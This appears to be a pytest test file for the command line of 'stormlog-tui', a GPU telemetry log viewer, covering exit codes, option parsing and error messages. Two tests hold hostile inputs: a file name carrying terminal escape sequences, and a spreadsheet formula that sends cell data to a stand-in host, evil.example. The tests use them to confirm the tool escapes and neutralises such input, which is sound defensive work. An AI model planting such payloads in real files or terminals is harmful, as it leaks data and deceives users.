"""The command line: version, usage errors and bad paths give one line, never a traceback."""

from __future__ import annotations

import contextlib
import io
import subprocess
import sys
from pathlib import Path

import pytest

from stormlog_tui import __version__
from stormlog_tui.cli import main


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--version"]) == 0
    assert capsys.readouterr().out.strip() == f"stormlog-tui {__version__}"


def test_no_path_without_telemetry_here_points_to_the_demo(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main([]) == 2
    err = capsys.readouterr().err
    assert "no telemetry found in" in err and "stormlog-tui --demo" in err


def test_no_path_opens_the_current_directory_when_it_holds_telemetry(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import stormlog_tui.app as app_module

    demo = Path(__file__).resolve().parents[2] / "assets" / "demo"
    monkeypatch.chdir(demo)
    opened: list[object] = []
    monkeypatch.setattr(app_module.StormlogApp, "run", lambda self: opened.append(self.paths))
    assert main([]) == 0
    assert opened == [[demo]]


def test_session_and_rank_options(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import stormlog_tui.app as app_module

    demo = Path(__file__).resolve().parents[2] / "assets" / "demo"
    seen: list[tuple[object, object]] = []
    monkeypatch.setattr(
        app_module.StormlogApp,
        "run",
        lambda self: seen.append((self.initial_session, self.initial_ranks)),
    )
    assert main([str(demo), "--session", "abc", "--rank", "0,3,5-7"]) == 0
    assert seen == [("abc", (0, 3, 5, 6, 7))]
    assert main([str(demo), "--rank", "x"]) == 2
    assert "--rank: not a rank or a range" in capsys.readouterr().err


def test_a_missing_path_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = tmp_path / "nope"
    assert main([str(missing)]) == 2
    err = capsys.readouterr().err
    assert err == f"stormlog-tui: error: no such file or directory: {missing}\n"


def test_python_dash_m_runs_the_same_cli(tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "stormlog_tui", str(tmp_path / "nope")],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert done.stderr.startswith("stormlog-tui: error: ")


def test_paths_and_arguments_in_errors_are_printed_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = tmp_path / "nope\x1b]0;owned\x07\x1b[2J"
    assert main([str(hostile)]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err
    assert "nope\\x1b]0;owned\\x07\\x1b[2J" in err
    assert main([str(tmp_path), "--frobnicate\x1b[31m"]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "--frobnicate\\x1b[31m" in err


def test_ctrl_c_during_summary_exits_130(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import stormlog_tui.summary as summary_module

    def interrupted(*_args: object, **_options: object) -> int:
        raise KeyboardInterrupt

    monkeypatch.setattr(summary_module, "run_summary", interrupted)
    demo = Path(__file__).resolve().parents[2] / "assets" / "demo"
    assert main(["--summary", str(demo)]) == 130
    assert "Traceback" not in capsys.readouterr().err


def test_csv_export_neutralises_formulas_from_telemetry(tmp_path: Path) -> None:
    import csv

    from generators import v3_record, write_jsonl

    from stormlog_core.browse import load_dataset
    from stormlog_tui.export import export_group
    from stormlog_tui.view.detail_group import group_of

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    write_jsonl(tmp_path / "run.jsonl", [v3_record(i, session_id=formula) for i in range(3)])
    dataset = load_dataset([tmp_path / "run.jsonl"])
    group = group_of(dataset, formula)
    assert group is not None
    path, count = export_group(group, None, group.origin_ns, group.end_ns, tmp_path, "csv")
    with path.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert count == len(rows) == 3
    assert {row["session_id"] for row in rows} == {"'" + formula}
    assert all(
        not cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r.values()
    )
    assert int(rows[0]["allocator_allocated_bytes"]) > 0  # numbers stay numbers


def test_workers_sets_the_count_every_loader_reads(monkeypatch: pytest.MonkeyPatch) -> None:
    from stormlog_core.browse import WORKERS_ENV
    from stormlog_core.browse.read import worker_count

    monkeypatch.setenv(WORKERS_ENV, "1")  # restored (unset) after the test
    data = Path(__file__).resolve().parents[1] / "data" / "real_gpu_job"
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        status = main(["--workers", "3", "--summary", str(data)])
    assert status == 0 and out.getvalue()
    assert worker_count() == 3
    with contextlib.redirect_stderr(io.StringIO()) as err:
        assert main(["--workers", "0", "--summary", str(data)]) == 2  # a usage error
    assert "--workers" in err.getvalue()
